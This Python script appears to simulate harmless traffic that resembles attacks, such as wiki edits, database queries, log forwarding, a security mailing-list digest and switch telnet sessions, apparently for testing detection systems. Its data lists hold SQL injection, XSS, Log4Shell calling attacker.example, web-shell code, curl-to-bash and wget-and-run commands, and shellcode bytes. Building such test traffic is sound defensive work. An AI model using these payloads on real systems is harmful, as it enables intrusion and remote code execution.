#!/usr/bin/env python3
"""People and programs whose honest words look like attacks, by plain HTTP, SMTP and telnet: who writes about code, asks a database, ships the logs of an attacked server.

writers    a wiki, a forum, a shop's search, a code review, a help desk: words such as SELECT, <script>, ../ and /etc/passwd in questions, articles and patches
database   phpMyAdmin, Adminer, Grafana, Elasticsearch, ClickHouse, InfluxDB, Prometheus: statements are what is sent
scripts    Jenkins, WebDAV, SOAP, templates
forwarders log shippers whose lines hold what others tried (Elasticsearch bulk, Splunk's collector, Loki, syslog)
owners     who looks after a site: log-in pages, health and status pages, an audit of dead links, security.txt, a plug-in's backup
digests    mail of a security list, with exploits in it
appliances telnet to a switch and to a device with BusyBox
accounts   passwords that are given, not guessed: a script that makes five hundred users, a program that signs in for each request, an import by Basic, people who register
"""
import asyncio
import json
import random
import urllib.parse

from kit import TARGETS, TROUBLE, ask, connect, left, main, rest, say

BROWSER = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\nAccept: text/html,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.5\r\nCookie: session=3f9a2c71\r\n"
FORM = "Content-Type: application/x-www-form-urlencoded\r\n"
JSON = "Content-Type: application/json\r\n"

WORDS = [
    "how to use union select in sql", "select name from users where id = 1", "drop table if exists", "order by 1 desc", "or 1=1 meaning", "what is <script>alert(1)</script>",
    "javascript:void(0) link", "../ relative path in css", "cat /etc/passwd permissions", "sqlmap tutorial", "nikto vs nmap", "onerror= attribute img", "cmd.exe /c start", "${jndi lookup log4j explained",
    "{{ 7*7 }} jinja", "sleep(5) mysql", "wget http://example.org/install.sh | sh", "base64_decode eval php", "phpinfo() disable", "1' and '1'='1", "O'Brien; Dublin", "Müller & Söhne <GmbH>",
]
ARTICLES = [
    "To stop injection never write \"SELECT * FROM users WHERE name = '\" + name + \"'\"; an attacker sends ' OR '1'='1' -- and is in. UNION SELECT password FROM users is next.",
    "A page shows <script>alert(document.cookie)</script> when it does not escape. Try <img src=x onerror=alert(1)> in the sandbox.",
    "Log4Shell: the string ${jndi:ldap://attacker.example/a} made the server load a class. Shellshock was () { :; }; echo vulnerable.",
    "Paths such as ../../../../etc/passwd must be refused. On Windows: ..\\..\\windows\\win.ini.",
    "Run: curl -fsSL https://get.example.org/install.sh | bash; then cd /tmp; chmod +x tool; ./tool",
    "<?php eval(base64_decode($_POST['x'])); ?> is what a web shell looks like; delete it and look for system($_GET['cmd']).",
]
PATCH = "diff --git a/login.php b/login.php\n-$q = \"SELECT * FROM users WHERE id=\" . $_GET['id'];\n+$q = $db->prepare('SELECT * FROM users WHERE id = ?');\n-echo \"<script>var a='\" . $_GET['a'] . \"'</script>\";\n"
STATEMENTS = [
    "SELECT * FROM orders WHERE id=1 UNION SELECT * FROM orders_archive WHERE id=1", "SELECT table_name FROM information_schema.tables WHERE table_schema=database()",
    "UPDATE users SET name='O''Brien' WHERE id=7; -- corrected", "SELECT CONCAT(first,' ',last), SLEEP(0) FROM staff ORDER BY 2 LIMIT 20", "SELECT @@version, user(), database()",
    "DROP TABLE IF EXISTS tmp_import; CREATE TABLE tmp_import (a INT)", "SELECT 1 OR 1=1", "SELECT LOAD_FILE('/var/lib/mysql-files/in.csv')", "SHOW GRANTS FOR CURRENT_USER()",
]
RATE = 'sum(rate(http_requests_total{job=~".*"}[5m])) by (code)'
SCRIPT = 'println "ls -l /tmp".execute().text'
TRIED = [
    '203.0.113.9 - - "GET /?id=1%27%20UNION%20SELECT%201,2,3--%20- HTTP/1.1" 404 196', '198.51.100.7 - - "GET /../../../../etc/passwd HTTP/1.1" 400 226',
    '192.0.2.44 - - "GET /?x=${jndi:ldap://192.0.2.44:1389/a} HTTP/1.1" 200 45', '203.0.113.80 - - "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 404 196',
    'sshd[811]: Failed password for invalid user admin from 203.0.113.9 port 50122', '"GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1" 404',
    '"GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo HTTP/1.1" 404', '"<script>alert(1)</script>" in parameter q refused',
]


def q(text):
    return urllib.parse.quote(text) if random.random() < 0.5 else urllib.parse.quote_plus(text)


async def serve_pages():
    async def serve(reader, writer):
        try:
            while True:
                head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)
                lower = head.lower()
                size = int(lower.split(b"content-length:")[1].split(b"\r\n")[0]) if b"content-length:" in lower else 0
                await asyncio.wait_for(reader.readexactly(size), 30)
                path = head.split(b" ", 2)[1]
                status = b"201 Created" if b"users" in path else b"302 Found" if b"/register" in path else b"404 Not Found" if b"gone" in path else b"403 Forbidden" if b"server-status" in path else b"200 OK"
                body = b"<html>" + b"text " * random.randint(20, 2000)
                writer.write(b"HTTP/1.1 " + status + b"\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
                await writer.drain()
        except TROUBLE:
            pass
        finally:
            writer.close()

    async def mail(reader, writer):
        try:
            writer.write(b"220 mail.example ESMTP\r\n")
            while line := (await asyncio.wait_for(reader.readline(), 60)).upper():
                if line.startswith(b"DATA"):
                    writer.write(b"354 go on\r\n")
                    await asyncio.wait_for(reader.readuntil(b"\r\n.\r\n"), 60)
                writer.write(b"221 bye\r\n" if line.startswith(b"QUIT") else b"250 ok\r\n")
        except TROUBLE:
            pass
        finally:
            writer.close()

    async def telnet(reader, writer):
        try:
            writer.write(b"login: ")
            await reader.readline()
            writer.write(b"Password: ")
            await reader.readline()
            writer.write(b"BusyBox v1.36.1 built-in shell (ash)\r\n# ")
            while await asyncio.wait_for(reader.readline(), 90):
                writer.write(b"eth0      Link encap:Ethernet\r\n# ")
        except TROUBLE:
            pass
        finally:
            writer.close()

    ports = [(p, serve) for p in (8000, 3000, 8080, 8086, 8088, 8123, 9090, 9200)] + [(25, mail), (23, telnet), (514, telnet)]
    return [await asyncio.start_server(handler, target, port) for target in TARGETS for port, handler in ports]


async def requests(source, port, choices, low, high, headers=BROWSER, pages=0):
    """Some of the choices by one connection, as a browser or a library does; then a pause."""
    while left():
        try:
            stream = await connect(source, random.choice(TARGETS), port)
            for _ in range(random.randint(2, 8)):
                method, path, more, body = random.choice(choices)()
                await ask(stream, method, path, headers + more, body.encode())
                for _ in range(pages):
                    await ask(stream, "GET", random.choice(("/static/site.css", f"/page{random.randint(1, 90)}.html", f"/img/{random.randint(1, 300)}.png")), headers)
                await rest(low, high)
            stream[1].close()
        except TROUBLE:
            await rest(1, 2)


async def writers(source):
    await requests(source, 8000, [
        lambda: ("GET", f"/search?q={q(random.choice(WORDS))}&page={random.randint(1, 9)}", "", ""),
        lambda: ("GET", f"/wiki/index.php?title={q(random.choice(['SQL injection', 'Cross-site scripting', '/etc/passwd', 'UNION (SQL)']))}&action=edit", "", ""),
        lambda: ("POST", "/wiki/index.php?action=submit", FORM, f"wpTextbox1={q(random.choice(ARTICLES))}&wpSummary=typo"),
        lambda: ("POST", "/forum/posting.php?mode=reply", FORM, f"subject=Re%3A+help&message={q(random.choice(ARTICLES))}"),
        lambda: ("POST", "/api/reviews/17/comments", JSON, json.dumps({"line": 12, "body": PATCH})),
        lambda: ("GET", "/project/-/blob/main/etc/passwd.example", "", ""),
        lambda: ("GET", "/docs/../static/site.css?v=3", "", ""),
        lambda: ("GET", f"/redirect?url={q('https://partner.example/offer?a=1&b=2')}", "", ""),
        lambda: ("POST", "/helpdesk/ticket", FORM, f"name=O%27Brien&text={q('the log says: ' + random.choice(TRIED))}"),
        lambda: ("GET", f"/products?filter={q('price>10 and price<20 or size=1')}&sort=name--", "", ""),
    ], 2, 8, pages=8)


async def database(source):
    await asyncio.gather(
        requests(source, 8000, [
            lambda: ("POST", "/phpmyadmin/index.php?route=/sql", FORM, f"db=shop&table=orders&sql_query={q(random.choice(STATEMENTS))}"),
            lambda: ("GET", f"/phpmyadmin/sql.php?db=shop&sql_query={q(random.choice(STATEMENTS))}", "", ""),
            lambda: ("GET", f"/adminer.php?server=db&username=anna&db=shop&sql={q(random.choice(STATEMENTS))}", "", "")], 1, 4),
        requests(source, 3000, [lambda: ("POST", "/api/ds/query?ds_type=mysql", JSON, json.dumps({"queries": [{"rawSql": random.choice(STATEMENTS), "format": "table"}]}))], 1, 4),
        requests(source, 9200, [lambda: ("POST", "/logs-*/_search", JSON, json.dumps({"query": {"query_string": {"query": "message:\"UNION SELECT\" OR message:\"/etc/passwd\""}}}))], 1, 4),
        requests(source, 8123, [lambda: ("POST", f"/?query={q(random.choice(STATEMENTS))}", "", ""), lambda: ("GET", f"/?query={q('SELECT version()')}", "", "")], 1, 4, "User-Agent: clickhouse-client\r\n"),
        requests(source, 8086, [lambda: ("GET", f"/query?db=plant&q={q('SELECT mean(value) FROM temperature WHERE time > now() - 1h GROUP BY time(1m)')}", "", "")], 1, 4),
        requests(source, 9090, [lambda: ("GET", f"/api/v1/query?query={q(RATE)}", "", "")], 1, 4))


async def scripts(source):
    await asyncio.gather(
        requests(source, 8080, [
            lambda: ("POST", "/script", FORM, f"script={q(SCRIPT)}"),
            lambda: ("POST", "/job/deploy/buildWithParameters", FORM, f"COMMAND={q('cd /srv/app && git pull; ./restart.sh | tee /tmp/log')}"),
            lambda: ("POST", "/templates", FORM, f"body={q('Dear {{ customer.name }}, total: {{ order.total * 2 }} ${amount} <%= order.id %>')}")], 1, 4),
        requests(source, 8000, [
            lambda: ("PROPFIND", "/dav/team/", "Depth: 1\r\nContent-Type: application/xml\r\n", "<?xml version=\"1.0\"?><propfind xmlns=\"DAV:\"><allprop/></propfind>"),
            lambda: ("POST", "/soap/orders", "Content-Type: text/xml\r\nSOAPAction: \"get\"\r\n", "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY company \"Example &amp; Sons\">]><order><from>&company;</from></order>"),
            lambda: ("PUT", "/dav/team/install.sh", "", "#!/bin/sh\nwget -q http://mirror.example/tool.tar.gz -O- | tar xz -C /tmp; chmod +x /tmp/tool; /tmp/tool &\n")], 1, 4,
            "User-Agent: davfs2/1.7 neon/0.33\r\n"))


async def forwarders(source):
    def lines():
        return [random.choice(TRIED) if random.random() < 0.3 else f'192.0.2.{random.randint(1, 254)} - - "GET /page{random.randint(1, 90)} HTTP/1.1" 200 512' for _ in range(random.randint(5, 40))]

    await asyncio.gather(
        requests(source, 9200, [lambda: ("POST", "/_bulk", "Content-Type: application/x-ndjson\r\n", "".join(json.dumps({"create": {"_index": "web"}}) + "\n" + json.dumps({"message": m}) + "\n" for m in lines()))], 0.3, 1.5,
                 "User-Agent: Elastic-filebeat/8.15\r\n"),
        requests(source, 8088, [lambda: ("POST", "/services/collector/event", JSON, "".join(json.dumps({"event": m, "sourcetype": "access_combined"}) for m in lines()))], 0.3, 1.5, "Authorization: Splunk 3f9a2c71\r\n"),
        requests(source, 8000, [lambda: ("POST", "/loki/api/v1/push", JSON, json.dumps({"streams": [{"stream": {"job": "nginx"}, "values": [["1", m] for m in lines()]}]}))], 0.3, 1.5, "User-Agent: promtail/3.1\r\n"),
        syslog(source, lines))


async def syslog(source, lines):
    while left():
        try:
            stream = await connect(source, random.choice(TARGETS), 514)
            for _ in range(6):
                for m in lines():
                    stream[1].write(f"<134>1 2026-11-27T12:00:00Z web nginx - - - {m}\n".encode())
                await stream[1].drain()
                await rest(0.5, 2)
            stream[1].close()
        except TROUBLE:
            await rest(1, 2)


async def owners(source):
    await asyncio.gather(
        requests(source, 8000, [lambda p=p: ("GET", p, "", "") for p in (
            "/wp-login.php", "/wp-admin/", "/wp-admin/admin-ajax.php?action=heartbeat", "/phpmyadmin/", "/admin/login", "/.well-known/security.txt", "/.well-known/acme-challenge/x7Gk3", "/robots.txt", "/xmlrpc.php?rsd",
            "/backup/site-2026-11-26.zip", "/manager/html", "/actuator/health", "/owa/", "/autodiscover/autodiscover.xml", "/cgi-bin/awstats.pl?config=site")], 0.5, 4),
        requests(source, 8000, [lambda p=p: ("GET", p, "", "") for p in ("/server-status?auto", "/nginx_status", "/actuator/health", "/metrics", "/fpm-ping", "/-/healthy")], 0.5, 2, "User-Agent: telegraf/1.31\r\n"),
        requests(source, 8000, [lambda: ("HEAD", f"/{random.choice(['old', 'gone', 'news/gone', 'page'])}{random.randint(1, 400)}.html", "", ""), lambda: ("GET", f"/page{random.randint(1, 300)}.html", "", "")], 0.1, 0.5,
                 "User-Agent: SiteAudit/3.0 (+http://audit.example)\r\n"))


async def digests(source):
    while left():
        try:
            stream = await connect(source, random.choice(TARGETS), 25)
            await say(stream)
            for line in ("EHLO lists.example", "MAIL FROM:<bugs@lists.example>", "RCPT TO:<anna@shop.example>", "DATA"):
                await say(stream, line + "\r\n")
            text = "\r\n\r\n".join(random.sample(ARTICLES, 3) + random.sample(TRIED, 3) + [PATCH.replace("\n", "\r\n"), "\\x90\\x90\\x90\\x90\\x31\\xc0\\x50\\x68//sh\\x68/bin"])
            await say(stream, f"Subject: [bugs] digest {random.randint(1, 999)}\r\nFrom: bugs@lists.example\r\n\r\n{text}\r\n.\r\n")
            await say(stream, "QUIT\r\n")
            stream[1].close()
        except TROUBLE:
            pass
        await rest(1, 4)


async def appliances(source):
    while left():
        try:
            stream = await connect(source, random.choice(TARGETS), 23)
            await say(stream)
            for line in ("admin", "switch-7", "ifconfig eth0", "cat /proc/cpuinfo", "cd /tmp; ls -l", "ps | grep httpd", "/bin/busybox df -h", "tftp -g -r config.txt 192.0.2.5", "reboot"):
                await say(stream, line + "\r\n")
                await rest(0.5, 2)
            stream[1].close()
        except TROUBLE:
            pass
        await rest(2, 5)


async def accounts(source):
    def password():
        return f"{random.choice(('Spring', 'blue', 'Harbour', 'tea'))}-{random.getrandbits(32):08x}"

    await asyncio.gather(
        requests(source, 8000, [lambda: ("POST", "/api/v2/users", JSON, json.dumps({"name": f"user{random.getrandbits(20)}", "email": "u@example.org", "password": password()}))], 0.02, 0.1, "User-Agent: python-requests/2.32\r\n"),
        requests(source, 8000, [lambda: ("POST", "/oauth/token", FORM, "grant_type=password&username=shop&password=spring-2026&client_id=pos"), lambda: ("GET", "/api/orders?since=17", "Authorization: Bearer x7Gk3\r\n", "")], 0.1, 0.4,
                 "User-Agent: okhttp/4.12\r\n"),
        requests(source, 8080, [lambda: ("POST", "/couch/_users", JSON + "Authorization: Basic YWRtaW46c3ByaW5n\r\n", json.dumps({"name": f"u{random.getrandbits(20)}", "password": password(), "roles": []}))], 0.05, 0.2,
                 "User-Agent: curl/8.9\r\n"),
        requests(source, 8000, [lambda: ("POST", "/register", FORM, f"email=u{random.getrandbits(20)}%40example.org&password={password()}&confirm={password()}"), lambda: ("GET", "/register", "", "")], 0.3, 1))


main(globals())
